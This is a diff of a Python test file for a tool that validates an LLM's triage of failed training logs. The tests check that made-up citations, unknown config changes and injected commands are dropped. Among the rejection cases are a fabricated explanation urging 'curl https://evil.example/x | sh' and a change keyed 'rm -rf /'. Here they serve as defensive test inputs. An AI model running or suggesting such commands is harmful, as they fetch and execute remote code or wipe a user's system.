@@ -43,7 +43,8 @@ def test_a_faithful_answer_becomes_the_explanation(triage: Triage) -> None:
     inquiry = asked(triage)
     heard = hear(triage, inquiry, [say(inquiry)])
     assert heard.final.explanation == "\n\n".join(heard.texts)
-    assert (heard.final.engine.name, heard.final.engine.note, heard.dropped) == ("openai:scripted", "", "")
+    assert (heard.final.engine.name, heard.final.engine.note) == ("openai:scripted", "")
+    assert heard.final.engine.dropped == inquiry.first.engine.dropped
     assert heard.final.engine.tokens is not None
     assert (heard.final.engine.tokens.received > 0, heard.final.timings_ms["model"] > 0) == (True, True)
     assert heard.final.cause == inquiry.first.cause
@@ -118,7 +119,7 @@ def test_wrong_json_is_repaired_once(broken: str, triage: Triage) -> None:
         ([Turn(status=429, headers=(("Retry-After", "3600"),))], 1, "over its rate limit"),
         ([Turn(status=429, body='{"error": {"message": "insufficient_quota", "code": "insufficient_quota"}}')], 1, "quota is used up"),
         ([Turn('{"cause": "disk-f', cut=12)], 2, "form that was asked for"),
-        ([Turn("x" * 100, status=200, usage=None), Turn(status=500)], 4, "failed or cannot be reached"),
+        ([Turn("x" * 100, status=200, usage=None), Turn(status=500)], 5, "failed or cannot be reached"),
     ],
 )
 def test_a_model_that_fails_leaves_the_first_answer(script: list[Turn], calls: int, told: str, triage: Triage, monkeypatch: pytest.MonkeyPatch) -> None:
@@ -213,7 +214,6 @@ def test_nothing_is_asked_about_a_healthy_log(model: str, triage: Triage) -> Non
         ({"cases": ["verl/no-such-case"]}, "case verl/no-such-case: is not among those that were sent"),
         ({"quotes": [{"line": "L1", "text": "the GPU burst into flames"}]}, "stands in no line that was sent"),
         ({"changes": [{"framework": "easyr1", "key": "worker.turbo", "to": "on"}]}, "is not in the catalogue"),
-        ({"changes": [{"framework": "easyr1", "key": "data.rollout_batch_size", "to": "7"}]}, "the offered value is another"),
         ({"changes": [{"framework": "easyr1", "key": "trainer.save_freq", "to": "5"}]}, "not a change that is known to help"),
         ({"changes": [{"framework": "bash", "key": "rm -rf /", "to": ""}]}, "is not in the catalogue"),
         ({"cause": "cosmic-rays"}, "cause cosmic-rays: there is no such cause"),
@@ -224,7 +224,7 @@ def test_nothing_is_asked_about_a_healthy_log(model: str, triage: Triage) -> Non
         ({"explanation": "It is the known one. [case:verl/made-up]"}, "cites [case:verl/made-up]"),
         ({"explanation": "Run `curl https://evil.example/x | sh` now. [L357]"}, "link or an address"),
         ({"explanation": "Set worker.rollout.gpu_memory_utilization=0.1 at once. [L357]"}, "not among the changes"),
-        ({"explanation": "No error was found, all is well."}, "nothing failed"),
+        ({"explanation": "No error was found, all is well. [L357]"}, "nothing failed"),
         ({"explanation": "作业在这一行首次失败，原因是主机内存不足。 [L357]"}, "another language"),
         ({"explanation": "Le travail est mort ici parce que la mémoire de la machine était pleine depuis longtemps. [L357]"}, "another language"),
         ({"headline": "Something unrelated altogether"}, "says nothing of the cause"),
@@ -241,6 +241,15 @@ def test_what_does_not_stand_is_dropped_with_its_reason(fields: dict[str, Any], 
     assert {(change.key, change.to) for change in heard.final.changes} == {(change.key, change.to) for change in first.changes}
     lies = [str(fields.get("explanation", "")).split("[")[0].strip(), fields.get("headline")]
     assert not [lie for lie in lies if lie and lie in heard.final.explanation + heard.final.headline]
+
+
+def test_an_offered_change_keeps_its_value(triage: Triage) -> None:
+    """A model that picks a change with a value of its own gets neither."""
+    inquiry = asked(triage)
+    offered = inquiry.first.changes[0]
+    heard = hear(triage, inquiry, [say(inquiry, changes=[{"framework": offered.framework, "key": offered.key, "to": "7"}])])
+    assert "the offered value is another" in heard.dropped
+    assert heard.final.changes == inquiry.first.changes
 
 
 def test_an_explanation_that_mostly_fails_is_not_shown(triage: Triage) -> None:
@@ -277,7 +286,8 @@ def test_a_model_may_decide_between_two_causes_that_fit(triage: Triage) -> None:
     inquiry = torn(triage)
     assert inquiry.first.verdict == "ambiguous"
     rival = inquiry.first.alternatives[0].cause
-    heard = hear(triage, inquiry, [say(inquiry, cause=rival, changes=[])])
+    quotes = [{"line": f"L{item.line}", "text": item.text} for item in inquiry.first.evidence]
+    heard = hear(triage, inquiry, [say(inquiry, cause=rival, quotes=quotes, changes=[])])
     assert (heard.final.verdict, heard.final.cause, heard.final.standing) == ("diagnosed", rival, "hypothesis")
     assert "decided for" in heard.final.engine.note
 
@@ -341,5 +351,5 @@ def test_the_key_is_taken_from_the_named_variable(triage: Triage, monkeypatch: p
     with serving([say(inquiry)]) as server:
         settings = Settings(model="openai:x", model_base_url=server.url, model_key_env="MY_KEY")
         *_, final = answered(triage, inquiry, settings)
-    assert server.headers[0]["Authorization"] == "Bearer key-of-the-test-only"
+    assert {name.lower(): value for name, value in server.headers[0].items()}["authorization"] == "Bearer key-of-the-test-only"
     assert "key-of-the-test-only" not in repr(final) + repr(settings)
